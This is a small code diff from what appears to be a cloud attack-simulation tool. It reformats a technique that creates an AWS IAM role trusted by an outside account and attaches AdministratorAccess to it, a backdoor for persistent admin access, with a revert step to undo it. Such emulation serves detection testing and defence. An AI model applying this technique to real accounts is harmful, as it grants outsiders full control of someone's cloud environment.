@@ -18,7 +18,9 @@ class IamCreateBackdoorRole(Technique):
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         iam = client("iam", session=ctx.attacker())
-        iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=trust({"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"}))
+        iam.create_role(
+            RoleName=ROLE, AssumeRolePolicyDocument=trust({"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"})
+        )
         iam.attach_role_policy(RoleName=ROLE, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
 
     def revert(self, ctx: Ctx, state: Json) -> None:
